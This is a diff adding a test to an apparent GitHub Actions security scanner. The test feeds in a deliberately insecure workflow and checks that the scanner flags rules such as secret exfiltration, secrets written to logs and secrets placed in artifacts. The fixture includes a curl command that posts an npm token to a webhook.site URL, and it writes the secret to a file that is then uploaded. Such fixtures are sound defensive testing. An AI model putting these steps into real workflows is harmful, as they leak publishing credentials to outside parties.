@@ -342,6 +342,51 @@ it('separates a clause that only some findings have from the word before it', ()
   ]);
 });
 
+it('names secrets in upper case in every text, however the file spells them', () => {
+  const text = `on: push
+permissions: { contents: write }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+        with: { token: "\${{ secrets.npm_token }}" }
+      - uses: actions/upload-artifact@v4
+        with: { path: ., include-hidden-files: true }
+      - run: echo "\${{ secrets.npm_token }}"
+      - run: curl -d "\${{ secrets.npm_token }}" https://webhook.site/0b1c
+      - run: echo "\${{ secrets.npm_token }}" > key.txt
+      - uses: actions/upload-artifact@v4
+        with: { path: key.txt }
+      - run: npm publish
+        env: { NODE_AUTH_TOKEN: "\${{ secrets.npm_token }}", USER: "\${{ fromJSON(secrets.npm_token).user }}" }
+  call:
+    uses: ./.github/workflows/called.yml
+    secrets: inherit
+`;
+  const called =
+    'on: workflow_call\njobs:\n  a: { runs-on: ubuntu-latest, steps: [{ run: "make ${{ secrets.npm_token }}" }] }\n';
+  const files = [
+    { path: PATH, text },
+    { path: '.github/workflows/called.yml', text: called },
+  ];
+  const { findings } = scanRepository(createRepository(files));
+  const naming = findings.filter(({ description }) => /npm_token/i.test(description));
+  expect(naming.filter(({ description }) => description.includes('npm_token'))).toEqual([]);
+  expect([...new Set(naming.map(({ ruleId }) => ruleId))].sort()).toEqual([
+    'artipacked',
+    'long-lived-credentials',
+    'secret-exfiltration',
+    'secret-in-log',
+    'secrets-in-artifacts',
+    'secrets-inherit',
+    'secrets-outside-env',
+    'unredacted-secrets',
+    'use-trusted-publishing',
+    'workflow-env-secrets',
+  ]);
+});
+
 describe('hooks', () => {
   const text = [
     'on: push',
